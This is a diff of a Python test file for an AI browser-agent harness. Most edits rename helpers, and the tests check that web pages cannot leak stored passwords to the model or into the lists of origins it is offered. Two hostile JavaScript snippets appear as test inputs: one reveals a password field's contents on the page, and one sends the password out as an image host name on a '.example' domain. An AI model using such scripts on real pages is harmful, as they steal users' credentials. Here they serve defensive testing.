@@ -24,7 +24,7 @@ from foreword.testing import Reply, ToolCall, fake_provider
 from tests.browser.channels import elsewhere, home
 from tests.browser.conftest import browser
 from tests.browser.working import in_the_page
-from tests.director.scenes import calls, opened, results_in
+from tests.director.scenes import calls, open_director, results_in
 
 pytestmark = pytest.mark.attack
 
@@ -35,7 +35,7 @@ GIVES_AWAY = """() => { document.querySelector('#password').type = 'text';
   document.querySelector('h1').textContent = 'You are ' + password.value }"""
 
 
-def nested(depth: int) -> Any:
+def nested_value(depth: int) -> Any:
     """A list in a list in a list."""
     value: Any = "leaf"
     for _ in range(depth):
@@ -69,7 +69,7 @@ def test_a_page_that_repeats_what_was_typed_tells_the_model_nothing(
 
     with (
         fake_provider(script) as provider,
-        opened(tmp_path, provider.openai, browser=browser) as director,
+        open_director(tmp_path, provider.openai, browser=browser) as director,
     ):
         for variable, given in kept.items():
             director.session.set_variable(variable, given, "to sign in")
@@ -81,18 +81,18 @@ def test_a_page_that_repeats_what_was_typed_tells_the_model_nothing(
 
 
 def test_arguments_may_be_nested_as_deeply_as_a_model_likes(tmp_path: Path) -> None:
-    wanted = {"name": "deep", "value": nested(900), "reason": "x"}
+    wanted = {"name": "deep", "value": nested_value(900), "reason": "x"}
     with (
         fake_provider([calls(set_variable=wanted), "Done."]) as provider,
-        opened(tmp_path, provider.openai) as director,
+        open_director(tmp_path, provider.openai) as director,
     ):
         assert director.say("Go").text == "Done."
-        assert director.call("set_variable", {**wanted, "value": nested(3_000)}).failed
+        assert director.call("set_variable", {**wanted, "value": nested_value(3_000)}).failed
         assert director.session.context().messages
 
 
 def test_a_tab_without_a_name_is_asked_for(tmp_path: Path, browser: Browser) -> None:
-    with opened(tmp_path, browser=browser) as director:
+    with open_director(tmp_path, browser=browser) as director:
         made = director.call("debug_close_tab", {"name": "", "reason": "x"})
     assert (made.text, made.failed) == ("failed: which tab? (give its name)", True)
 
@@ -102,15 +102,18 @@ def test_wherever_it_is_stopped_every_call_has_its_result(tmp_path: Path) -> Non
         ToolCall("set_variable", {"name": f"v{n}", "value": n, "reason": "x"}) for n in range(3)
     ]
     reply = Reply("I look around.", tool_calls=wanted)
-    with fake_provider(reply) as provider, opened(tmp_path, provider.openai) as director:
+    with fake_provider(reply) as provider, open_director(tmp_path, provider.openai) as director:
         for moment in range(1, 12):
-            _stopped_at(director, moment)
-            history = director.session.history()
-            asked = [call for message in history for call in message.calls]
-            assert asked == [call for message in history for call in message.results]
+            _stop_at(director, moment)
+            called = list[str]()
+            answered = list[str]()
+            for message in director.session.history():
+                called += message.calls
+                answered += message.results
+            assert called == answered
 
 
-def _stopped_at(director: Director, moment: int) -> None:
+def _stop_at(director: Director, moment: int) -> None:
     """Say stop when something has happened for so many times."""
     cancel, left = Event(), [moment]
 
@@ -140,13 +143,13 @@ def test_what_a_page_could_not_load_is_told_to_the_model_and_offered_by_name_the
                 ).text
             )
 
-        with opened(
+        with open_director(
             tmp_path, browser=lambda restore: Browser.start(rules, folder=tmp_path / "p")
         ) as director:
             assert assets.origins_to_offer(director.session, rules) == []
             told = looked(director)
         allowing = Rules(origins=rules.origins, assets=(cdn,))
-        with opened(
+        with open_director(
             tmp_path, browser=lambda restore: Browser.start(allowing, folder=tmp_path / "p")
         ) as director:
             (offered,) = assets.origins_to_offer(director.session, rules)
@@ -161,13 +164,14 @@ def test_what_a_page_could_not_load_is_told_to_the_model_and_offered_by_name_the
 def test_a_page_does_not_grow_the_list_of_what_is_offered_without_end_nor_put_a_secret_in_it(
     tmp_path: Path,
 ) -> None:
-    ask = """(names) => Promise.all(names.map(name => new Promise(done => { const image = new Image();
+    ask = """(names) => Promise.all(names.map(name => new Promise(done => {
+      const image = new Image();
       image.onerror = done; image.src = `http://${name}.example/x` }))).then(() => 1)"""
     names = json.dumps([PASSWORD, *(f"cdn{n}" for n in range(50))])
     with (
         home() as served,
         Browser.start(Rules(origins=(served.url,)), folder=tmp_path / "profiles") as browser,
-        opened(tmp_path, browser=browser) as director,
+        open_director(tmp_path, browser=browser) as director,
     ):
         director.session.set_variable("creds.password", PASSWORD, "to sign in")
         director.call("debug_navigate", {"url": served.url, "reason": "look"})
@@ -184,7 +188,7 @@ def test_a_page_does_not_grow_the_list_of_what_is_offered_without_end_nor_put_a_
 def test_what_a_stranger_wrote_into_the_list_is_offered_only_where_it_is_an_origin(
     tmp_path: Path,
 ) -> None:
-    with opened(tmp_path) as director:
+    with open_director(tmp_path) as director:
         place = assets._items_name(director.session)
         titles = [
             "https://cdn.example",
